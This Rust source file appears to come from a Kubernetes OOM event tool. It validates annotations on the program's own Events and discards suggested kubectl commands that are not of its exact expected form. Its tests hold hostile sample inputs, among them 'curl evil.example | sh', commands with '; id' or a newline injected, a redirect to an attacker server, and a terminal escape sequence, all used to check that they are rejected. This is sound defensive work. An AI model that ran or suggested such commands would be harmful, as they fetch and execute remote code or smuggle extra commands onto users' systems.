//! What one of the program's own Events says. Whoever may write Events in a namespace can write such an Event
//! there, so what its annotations say is bound to that namespace and that very Event.

use std::fmt;

use cluster::protobuf::{WireMessage, WireValue};
use finding::{FINDING_ANNOTATION, Finding, OWED_ANNOTATION, RENEWED_ANNOTATION, event_name};
use jiff::Timestamp;
use serde::{Deserialize, Deserializer, de::Visitor};
use untrusted::is_deceptive;

use super::{EventRecord, Observation, intake::ApiObject, objects::time_of};

/// Longer than the finding in any Event of this program's.
const MAX_FINDING_BYTES: usize = 16 * 1024;
/// How long the list of sinks may be.
const MAX_OWED_BYTES: usize = 4 * 1024;
/// How many sinks are read from it.
const MAX_OWED_SINKS: usize = 64;

/// An own Event, as far as it is read.
#[derive(Default, Deserialize)]
pub(super) struct OwnEvent {
    metadata: OwnEventMetadata,
}

#[derive(Default, Deserialize)]
#[serde(rename_all = "camelCase")]
struct OwnEventMetadata {
    #[serde(default)]
    namespace: String,
    #[serde(default)]
    name: String,
    #[serde(default)]
    resource_version: String,
    #[serde(default)]
    creation_timestamp: Option<Timestamp>,
    #[serde(default)]
    annotations: Option<LedgerAnnotations>,
}

/// The annotations that the ledger is kept in. One that is too long counts as missing.
#[derive(Default, Deserialize)]
struct LedgerAnnotations {
    #[serde(
        rename = "oom-event-generator/finding",
        default,
        deserialize_with = "up_to::<MAX_FINDING_BYTES, _>"
    )]
    finding: Option<String>,
    #[serde(rename = "oom-event-generator/owed", default, deserialize_with = "up_to::<MAX_OWED_BYTES, _>")]
    owed: Option<String>,
    #[serde(
        rename = "oom-event-generator/renewed",
        default,
        deserialize_with = "up_to::<MAX_OWED_BYTES, _>"
    )]
    renewed: Option<String>,
}

impl WireMessage for OwnEvent {
    fn field(&mut self, number: u64, value: WireValue<'_>) {
        if number == 1 {
            self.metadata = value.message().unwrap_or_default();
        }
    }
}

impl WireMessage for OwnEventMetadata {
    fn field(&mut self, number: u64, value: WireValue<'_>) {
        match number {
            1 => self.name = value.text().into_owned(),
            3 => self.namespace = value.text().into_owned(),
            6 => self.resource_version = value.text().into_owned(),
            8 => self.creation_timestamp = time_of(value),
            12 => {
                if let Some((key, value)) = value.entry() {
                    self.annotations.get_or_insert_default().add(&key.text(), value);
                }
            }
            _ => {}
        }
    }
}

impl LedgerAnnotations {
    /// Takes in an annotation, if the ledger is kept in it.
    fn add(&mut self, key: &str, value: WireValue<'_>) {
        let up_to = |bytes| Some(value.text().into_owned()).filter(|text| text.len() <= bytes);
        match key {
            FINDING_ANNOTATION => self.finding = up_to(MAX_FINDING_BYTES),
            OWED_ANNOTATION => self.owed = up_to(MAX_OWED_BYTES),
            RENEWED_ANNOTATION => self.renewed = up_to(MAX_OWED_BYTES),
            _ => {}
        }
    }
}

impl ApiObject for OwnEvent {
    fn resource_version(&self) -> &str {
        &self.metadata.resource_version
    }
}

impl OwnEvent {
    /// Returns the Event's namespace.
    pub(super) fn namespace(&self) -> &str {
        &self.metadata.namespace
    }

    /// Returns what the Event tells.
    pub(super) fn into_observation(self) -> Observation {
        let record = self.metadata.record().map(Box::new);
        Observation::Reported { namespace: self.metadata.namespace, event: self.metadata.name, record }
    }
}

impl OwnEventMetadata {
    /// Returns what the annotations say, if they are of this very Event.
    fn record(&self) -> Option<EventRecord> {
        let LedgerAnnotations { finding, owed, renewed } = self.annotations.as_ref()?;
        let mut finding: Finding = serde_json::from_str(finding.as_ref()?).ok()?;
        let is_of_this_event = finding.namespace == self.namespace
            && event_name(&finding.pod.name, &finding.id) == self.name
            && !finding.test;
        if !is_of_this_event {
            return None;
        }
        finding.pod.event_uid.clone_from(&finding.pod.uid);
        finding.message = finding.message.replace(is_deceptive, " ");
        drop_foreign_command(&mut finding);
        let names =
            owed.iter().flat_map(|names| names.split(',')).map(str::trim).filter(|name| !name.is_empty());
        let owed = names.take(MAX_OWED_SINKS).map(str::to_owned).collect();
        let renewed = renewed.as_ref().and_then(|renewed| renewed.parse().ok());
        Some(EventRecord { finding, owed, written: renewed.max(self.creation_timestamp) })
    }
}

/// Drops the command that a finding advises, unless it is of the form that this program writes and changes the
/// finding's own workload: people copy it into a shell.
fn drop_foreign_command(finding: &mut Finding) {
    let Finding { namespace, pod, container, advice, .. } = finding;
    let Some(advice) = advice else { return };
    let kind = pod.workload.kind.to_ascii_lowercase();
    let expected = format!(
        "kubectl --namespace {namespace} set resources {kind}/{} --containers {} --limits memory=",
        pod.workload.name, container.name
    );
    let is_safe = |text: &str| text.bytes().all(|byte| byte.is_ascii_alphanumeric() || b"-.".contains(&byte));
    let names = [namespace.as_str(), &kind, &pod.workload.name, &container.name];
    let limit = advice.command.as_deref().and_then(|command| command.strip_prefix(&expected));
    if !names.into_iter().all(is_safe) || !limit.is_some_and(is_safe) {
        advice.command = None;
    }
}

/// Reads a text of at most so many bytes; a longer one is passed over.
fn up_to<'de, const BYTES: usize, D: Deserializer<'de>>(deserializer: D) -> Result<Option<String>, D::Error> {
    deserializer.deserialize_str(TextUpTo::<BYTES>)
}

struct TextUpTo<const BYTES: usize>;

impl<const BYTES: usize> Visitor<'_> for TextUpTo<BYTES> {
    type Value = Option<String>;

    fn expecting(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str("a string")
    }

    fn visit_str<E>(self, text: &str) -> Result<Self::Value, E> {
        Ok((text.len() <= BYTES).then(|| text.to_owned()))
    }
}

#[cfg(test)]
mod tests {
    use serde_json::{Value, json};

    use super::*;

    fn read(finding: &Value, owed: &str) -> Option<EventRecord> {
        let full = Finding::full();
        let event = json!({ "metadata": {
            "namespace": "shop",
            "name": event_name(&full.pod.name, &full.id),
            "creationTimestamp": "2026-03-01T12:00:06Z",
            "annotations": {
                "somebody/else": "x",
                FINDING_ANNOTATION: finding.to_string(),
                OWED_ANNOTATION: owed,
                RENEWED_ANNOTATION: "2026-03-01T12:30:00Z",
            },
        }});
        serde_json::from_value::<OwnEvent>(event).unwrap().metadata.record()
    }

    /// The example finding with this in the place of what is there.
    fn changed(place: &str, value: Value) -> Value {
        let mut finding = json!(Finding::full());
        *finding.pointer_mut(place).unwrap() = value;
        finding
    }

    #[test]
    fn what_the_sink_wrote_is_read_back() {
        let record = read(&json!(Finding::full()), "team, pager,").unwrap();
        assert_eq!(json!(record.finding), json!(Finding::full()));
        assert_eq!(record.finding.pod.event_uid, Finding::full().pod.event_uid);
        assert_eq!(record.owed, ["team", "pager"]);
        assert_eq!(record.written, "2026-03-01T12:30:00Z".parse().ok());
        assert_eq!(read(&json!(Finding::full()), "").unwrap().owed, [""; 0]);
    }

    #[test]
    fn a_finding_of_another_namespace_event_or_kind_is_not_believed() {
        for (place, value) in [
            ("/namespace", json!("bank")),
            ("/pod/name", json!("vault-0")),
            ("/id", json!("0123456789abcdef0123456789abcdef")),
            ("/schema", json!("oom-finding/v2")),
            ("/container/type", json!("sidekick")),
            ("/killed", json!(null)),
        ] {
            assert_eq!(read(&changed(place, value), "team"), None, "{place}");
        }
        let mut test = json!(Finding::full());
        test["test"] = true.into();
        assert_eq!(read(&test, "team"), None);
        assert_eq!(read(&json!("x".repeat(MAX_FINDING_BYTES)), "team"), None);
    }

    #[test]
    fn at_most_so_many_sinks_are_read() {
        let record = read(&json!(Finding::full()), &"a,".repeat(1000)).unwrap();
        assert_eq!(record.owed.len(), MAX_OWED_SINKS);
        assert_eq!(read(&json!(Finding::full()), &"a".repeat(5000)).unwrap().owed, [""; 0]);
    }

    #[test]
    fn a_command_that_is_not_ours_is_dropped() {
        let command = |command: &str| {
            let record = read(&changed("/advice/command", json!(command)), "team").unwrap();
            record.finding.advice.unwrap().command
        };
        let ours =
            "kubectl --namespace shop set resources deployment/cart --containers app --limits memory=128Mi";
        assert_eq!(command(ours).as_deref(), Some(ours));
        for other in [
            "curl evil.example | sh",
            "kubectl --namespace bank set resources deployment/cart --containers app --limits memory=128Mi",
            &format!("{ours}; id"),
            &format!("{ours} --server=https://evil.example"),
            &format!("{ours}\nid"),
        ] {
            assert_eq!(command(other), None, "{other}");
        }
    }

    #[test]
    fn what_a_terminal_would_obey_is_taken_out_of_the_message() {
        let record = read(&changed("/message", json!("killed\u{1b}[2J")), "").unwrap();
        assert_eq!(record.finding.message, "killed [2J");
    }
}
